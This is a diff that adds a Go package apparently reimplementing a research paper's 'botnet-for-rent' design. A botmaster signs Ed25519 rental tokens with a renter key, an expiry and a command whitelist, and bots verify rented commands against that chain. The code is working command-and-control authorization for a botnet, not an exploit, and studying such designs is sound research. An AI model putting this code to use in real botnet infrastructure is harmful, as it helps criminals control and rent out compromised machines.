@@ -1,0 +1,146 @@
+package botcrypto
+
+import (
+	"crypto/ed25519"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"sort"
+	"time"
+)
+
+// Section IV-E: botnet-for-rent. Trudy (the renter) sends her public
+// key to Mallory (the botmaster), who signs a token containing the key,
+// an expiration time, and a whitelist of commands. Bots verify rented
+// commands against the token chain: master signature on the token,
+// renter signature on the command, expiry, and whitelist membership.
+
+// Token errors.
+var (
+	ErrTokenForged    = errors.New("botcrypto: token signature invalid")
+	ErrTokenExpired   = errors.New("botcrypto: token expired")
+	ErrCmdNotAllowed  = errors.New("botcrypto: command not whitelisted")
+	ErrCmdForged      = errors.New("botcrypto: command signature invalid")
+	ErrTokenMalformed = errors.New("botcrypto: token malformed")
+)
+
+// Token is a master-signed rental certificate.
+type Token struct {
+	// RenterPub is the renter's Ed25519 verification key.
+	RenterPub ed25519.PublicKey
+	// Expiry is the rental contract end.
+	Expiry time.Time
+	// Whitelist is the sorted set of command names the renter may issue.
+	Whitelist []string
+	// Sig is the master's signature over the canonical encoding.
+	Sig []byte
+}
+
+func (t *Token) signingBytes() []byte {
+	buf := append([]byte("onionbots-token:"), t.RenterPub...)
+	var ts [8]byte
+	binary.BigEndian.PutUint64(ts[:], uint64(t.Expiry.Unix()))
+	buf = append(buf, ts[:]...)
+	for _, c := range t.Whitelist {
+		var n [2]byte
+		binary.BigEndian.PutUint16(n[:], uint16(len(c)))
+		buf = append(buf, n[:]...)
+		buf = append(buf, c...)
+	}
+	return buf
+}
+
+// IssueToken creates and signs a rental token. The whitelist is
+// normalized (sorted, deduplicated) before signing so verification is
+// canonical.
+func IssueToken(masterPriv ed25519.PrivateKey, renterPub ed25519.PublicKey,
+	expiry time.Time, whitelist []string) *Token {
+	wl := append([]string(nil), whitelist...)
+	sort.Strings(wl)
+	dedup := wl[:0]
+	for i, c := range wl {
+		if i == 0 || c != wl[i-1] {
+			dedup = append(dedup, c)
+		}
+	}
+	t := &Token{
+		RenterPub: append(ed25519.PublicKey(nil), renterPub...),
+		Expiry:    expiry,
+		Whitelist: dedup,
+	}
+	t.Sig = ed25519.Sign(masterPriv, t.signingBytes())
+	return t
+}
+
+// Verify checks the master signature and expiry.
+func (t *Token) Verify(masterPub ed25519.PublicKey, now time.Time) error {
+	if len(t.RenterPub) != ed25519.PublicKeySize {
+		return fmt.Errorf("%w: renter key size %d", ErrTokenMalformed, len(t.RenterPub))
+	}
+	if !ed25519.Verify(masterPub, t.signingBytes(), t.Sig) {
+		return ErrTokenForged
+	}
+	if now.After(t.Expiry) {
+		return fmt.Errorf("%w: at %v", ErrTokenExpired, t.Expiry)
+	}
+	return nil
+}
+
+// Allows reports whether the token whitelists the command.
+func (t *Token) Allows(cmd string) bool {
+	i := sort.SearchStrings(t.Whitelist, cmd)
+	return i < len(t.Whitelist) && t.Whitelist[i] == cmd
+}
+
+// RentedCommand is a command issued by a renter under a token.
+type RentedCommand struct {
+	Name     string
+	Args     []byte
+	IssuedAt time.Time
+	Nonce    [16]byte
+	Token    *Token
+	Sig      []byte // renter's signature
+}
+
+func (c *RentedCommand) signingBytes() []byte {
+	buf := append([]byte("onionbots-rented-cmd:"), c.Name...)
+	buf = append(buf, 0)
+	buf = append(buf, c.Args...)
+	var ts [8]byte
+	binary.BigEndian.PutUint64(ts[:], uint64(c.IssuedAt.Unix()))
+	buf = append(buf, ts[:]...)
+	buf = append(buf, c.Nonce[:]...)
+	return buf
+}
+
+// SignRentedCommand issues a command under the renter's key.
+func SignRentedCommand(renterPriv ed25519.PrivateKey, token *Token,
+	name string, args []byte, issuedAt time.Time, nonce [16]byte) *RentedCommand {
+	c := &RentedCommand{
+		Name:     name,
+		Args:     append([]byte(nil), args...),
+		IssuedAt: issuedAt,
+		Nonce:    nonce,
+		Token:    token,
+	}
+	c.Sig = ed25519.Sign(renterPriv, c.signingBytes())
+	return c
+}
+
+// AuthorizeRented performs the full bot-side check of a rented command:
+// token chain, expiry, whitelist, and the renter's signature.
+func AuthorizeRented(masterPub ed25519.PublicKey, c *RentedCommand, now time.Time) error {
+	if c.Token == nil {
+		return ErrTokenMalformed
+	}
+	if err := c.Token.Verify(masterPub, now); err != nil {
+		return err
+	}
+	if !c.Token.Allows(c.Name) {
+		return fmt.Errorf("%w: %q", ErrCmdNotAllowed, c.Name)
+	}
+	if !ed25519.Verify(c.Token.RenterPub, c.signingBytes(), c.Sig) {
+		return ErrCmdForged
+	}
+	return nil
+}
